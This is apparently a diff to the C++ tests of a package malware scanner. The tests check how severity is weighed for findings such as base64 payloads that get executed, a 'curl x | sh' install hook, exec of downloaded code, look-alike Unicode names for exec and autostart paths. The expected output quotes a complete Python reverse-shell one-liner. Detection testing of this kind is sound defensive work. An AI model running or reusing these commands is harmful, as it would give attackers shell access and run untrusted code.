@@ -85,6 +85,47 @@ TEST(Signals, a_decoded_payload_that_runs_is_high_and_one_step_up_in_setup_py) {
             "string (hex) that reads as code: hex: import os\n");
 }
 
+// A bundler's output (the scanner's `generated`) is someone else's code copied in: a fact in
+// it is one step down, as in a vendored copy, unless the file runs at install; another file's
+// fact is untouched.
+TEST(Signals, a_fact_in_a_bundlers_output_is_one_step_down_unless_it_runs_at_install) {
+  EXPECT_EQ(weighed(fact("generated", "bundle", "package/dist/chunk.js", 7, "__commonJS(") +
+                    fact("decoded-executed", "base64", "package/dist/chunk.js", 39, "base64: import http") +
+                    fact("generated", "bundle", "package/dist/hook.js", 1, "__toESM(") +
+                    fact("shell", "download-piped-to-shell", "package/dist/hook.js", 3, "curl x | sh", "install") +
+                    fact("decoded-executed", "base64", "package/lib/run.js", 2, "base64: import http") + kDone),
+            "signals malware_signal MALWARE_SIGNAL medium [signals-decoded-payload-executed] package/dist/chunk.js:39 "
+            "decodes a string (base64) that reads as code and runs it: base64: import http\n"
+            "signals malware_signal MALWARE_SIGNAL critical [signals-shell-download-piped-to-shell] "
+            "package/dist/hook.js:3 pipes a download into an interpreter: curl x | sh\n"
+            "signals malware_signal MALWARE_SIGNAL high [signals-decoded-payload-executed] package/lib/run.js:2 "
+            "decodes a string (base64) that reads as code and runs it: base64: import http\n");
+}
+
+TEST(Signals, code_fetched_and_run_is_high_and_a_disguised_runner_high_where_another_disguised_name_is_medium) {
+  EXPECT_EQ(
+      weighed(fact("fetched-executed", "python", "smt-1.0/smt/core.py", 278, "target=exec, args=(code,)") +
+              fact("disguised-name", "exec", "fun-1.0/setup.py", 19, "\u212f\U0001D4CD\u212f\U0001D4B8 reads as exec") +
+              fact("disguised-name", "x", "fun-1.0/fun/maths.py", 3, "\U0001D465 reads as x") + kDone),
+      "signals malware_signal MALWARE_SIGNAL high [signals-fetched-code-executed] smt-1.0/smt/core.py:278 runs "
+      "code the network sends it (exec/eval of a download): target=exec, args=(code,)\n"
+      "signals malware_signal MALWARE_SIGNAL critical [signals-disguised-name] fun-1.0/setup.py:19 writes a name "
+      "in look-alike letters that Python reads as exec: \u212f\U0001D4CD\u212f\U0001D4B8 reads as exec\n"
+      "signals malware_signal MALWARE_SIGNAL medium [signals-disguised-name] fun-1.0/fun/maths.py:3 writes a name "
+      "in look-alike letters that Python reads as x: \U0001D465 reads as x\n");
+}
+
+TEST(Signals, an_autostart_place_is_medium_in_a_library_and_high_in_an_install_hook) {
+  EXPECT_EQ(
+      weighed(fact("persist", "autostart", "package/lib/launch.js", 4, "library/launchagents") +
+              fact("persist", "autostart", "package/build/stealer.js", 59, "start menu/programs/startup", "install") +
+              kDone),
+      "signals malware_signal MALWARE_SIGNAL medium [signals-autostart-written] package/lib/launch.js:4 names an "
+      "autostart place (a program started at every login): library/launchagents\n"
+      "signals malware_signal MALWARE_SIGNAL high [signals-autostart-written] package/build/stealer.js:59 names an "
+      "autostart place (a program started at every login): start menu/programs/startup\n");
+}
+
 TEST(Signals, a_dropper_command_in_a_packages_tests_is_low_and_in_a_vendored_copy_one_step_down) {
   EXPECT_EQ(weighed(fact("shell", "download-executed", "p-1.0/tests/test_x.py", 3, "wget …; chmod +x x") +
                     fact("shell", "download-executed", "p-1.0/p/_vendor/six.py", 3, "wget …; chmod +x x") + kDone),
@@ -241,6 +282,10 @@ core::ScanInput ordinary_library() {
 }
 
 const std::string kExpected[] = {
+    "signals malware_signal MALWARE_SIGNAL high [signals-shell-reverse-shell] rshell-1.0.0/rshell/__init__.py:2 binds "
+    "a shell to a network connection (a reverse shell): decoded (base64): import "
+    "socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/"
+    "sh','-i'])\n"
     "signals malware_signal MALWARE_SIGNAL high [signals-decoded-payload-executed] rshell-1.0.0/rshell/__init__.py:2 "
     "decodes a string (base64) that reads as code and runs it: base64: import "
     "socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',9));os.dup2(s.fileno(),0);subprocess.call(['/bin/"
